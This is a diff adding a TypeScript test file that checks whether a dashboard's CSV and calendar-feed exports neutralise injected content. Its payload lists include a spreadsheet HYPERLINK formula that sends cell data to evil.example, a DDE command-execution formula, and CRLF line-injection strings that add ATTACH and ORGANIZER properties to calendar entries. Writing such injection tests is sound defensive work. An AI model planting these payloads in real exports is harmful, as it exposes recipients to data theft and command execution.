@@ -1,0 +1,163 @@
+import { parse } from 'csv-parse/sync'
+import ICAL from 'ical.js'
+import { beforeAll, expect } from 'vitest'
+import { appointments, calls, leads } from '../../lib/db/schema/index.ts'
+import { within } from '../e2e/account/rows.ts'
+import { check } from '../support/defences/check.ts'
+import { content } from './defences/content.ts'
+import { adminOf } from './support/member.ts'
+
+/*
+ * Whoever calls, or writes to a company, has their words in files that others open: in a spreadsheet, and in a calendar.
+ */
+
+const ORGANIZATION = 'org_exports'
+
+/** What a spreadsheet would calculate, ask another server for, or take for the end of a cell or a line. */
+const FORMULAS = [
+  '=1+1',
+  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1,1)',
+  '"=1+1',
+  '",=1+1,"',
+  'x\n=1+1',
+  'x"\r\n"=1+1',
+  ';=1+1',
+]
+
+const PHONES = ['+442079460958', '+12125550142']
+
+const START = new Date(Date.now() + 24 * 3_600_000)
+
+let ask: Awaited<ReturnType<typeof adminOf>>
+
+beforeAll(async () => {
+  ask = await adminOf(ORGANIZATION)
+  const own = { organizationId: ORGANIZATION }
+  await within(own, async ({ db }) => {
+    await db.delete(leads)
+    await db.delete(calls)
+    await db.delete(appointments)
+    await db.insert(calls).values(
+      FORMULAS.map((text, index) => ({
+        ...own,
+        startedAt: START,
+        outcome: 'message' as const,
+        callerName: text,
+        callerPhone: PHONES[index % PHONES.length],
+        callerWords: text,
+        summary: text,
+        rule: text,
+      })),
+    )
+    await db.insert(appointments).values(
+      INJECTED.map((text) => ({
+        ...own,
+        startsAt: START,
+        endsAt: new Date(START.getTime() + 2 * 3_600_000),
+        customer: text,
+        job: text,
+        address: text,
+        technician: text,
+      })),
+    )
+  })
+})
+
+/** Whether a spreadsheet would take the text of a cell for a formula. */
+const isFormula = (cell: string): boolean => /^[=+\-@\t\r\n＝＋－＠]/.test(cell)
+
+/** The rows of a file as a parser reads them, each with as many cells as there are columns. */
+async function rowsOf(path: string): Promise<string[][]> {
+  const response = await ask(path)
+  expect(response.status).toBe(200)
+  return parse(await response.text(), { bom: true })
+}
+
+check(
+  {
+    what: 'Exports: leads and calls as CSV',
+    tried: `${FORMULAS.length} formulas and quotes in every text, opened by a parser`,
+    expected: 'no cell begins as a formula, none is lost, numbers as they are dialled',
+    without: content.formulas,
+  },
+  async () => {
+    for (const text of FORMULAS) {
+      const lead = { name: text, problem: text, address: text, system: text, safety: text, phone: PHONES[0] }
+      const response = await ask('/api/dashboard/leads', { method: 'POST', body: JSON.stringify(lead) })
+      expect(response.status).toBe(201)
+    }
+    const first = await rowsOf('/api/dashboard/leads/export')
+    const rows = [...first, ...(await rowsOf('/api/dashboard/calls/export'))]
+    const cells = rows.flat()
+    expect(cells.filter(isFormula)).toEqual([])
+    const texts = new Set(cells.map((cell) => cell.replace(/^'/, '')))
+    expect(FORMULAS.map((text) => text.trim()).filter((text) => !texts.has(text))).toEqual([])
+    expect(cells).toEqual(expect.arrayContaining(['011 44 20 7946 0958', '(212) 555-0142']))
+    return `${rows.length} rows, ${cells.length} cells, no formula`
+  },
+)
+
+/** Ends a line, or what it belongs to, in a file of a calendar. */
+const INJECTED = [
+  'x\r\nX-EVIL:1',
+  'x\nATTACH:https://evil.example/',
+  'x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:DISPLAY',
+  'x\rORGANIZER:mailto:evil@evil.example',
+  'x\u0085X-EVIL:1',
+  'x\u2028X-EVIL:1',
+  'x;X-EVIL=1:y',
+  'x\\nX-EVIL:1',
+  'x\\',
+  `${'x'.repeat(62)}\r\n X-EVIL:1`,
+]
+
+/** What the site writes into an entry. */
+const OWN =
+  'created description dtend dtstamp dtstart last-modified location sequence status summary transp uid url'.split(' ')
+
+check(
+  {
+    what: 'Exports: the calendar feed',
+    tried: `${INJECTED.length} ends of lines in its name and in each text of a visit, read by a parser`,
+    expected: 'as many entries as visits, no other property or component',
+    without: content.calendar,
+  },
+  async () => {
+    const problems: string[] = []
+    for (const name of INJECTED) {
+      const made = await ask('/api/dashboard/feeds', { method: 'POST', body: JSON.stringify({ name }) })
+      expect(made.status).toBe(201)
+      const { address, feed } = (await made.json()) as { address: string; feed: { id: string } }
+      const text = await (await fetch(address)).text()
+      await ask(`/api/dashboard/feeds/${feed.id}`, { method: 'DELETE' })
+      try {
+        const calendar = new ICAL.Component(ICAL.parse(text) as unknown[])
+        const events = calendar.getAllSubcomponents()
+        if (events.length !== INJECTED.length) problems.push(`${events.length} entries`)
+        const names = new Set(events.flatMap((event) => event.getAllProperties().map((property) => property.name)))
+        problems.push(...[...names].filter((each) => !OWN.includes(each)))
+        problems.push(...events.flatMap((event) => event.getAllSubcomponents().map((inner) => inner.name)))
+        problems.push(
+          ...calendar
+            .getAllProperties()
+            .map((property) => property.name)
+            .filter((each) => /evil|attach|organizer/.test(each)),
+        )
+      } catch (error) {
+        problems.push(error instanceof Error ? error.message : 'unreadable')
+      }
+    }
+    expect([...new Set(problems)]).toEqual([])
+    return `${INJECTED.length} entries, ${OWN.length} properties`
+  },
+)
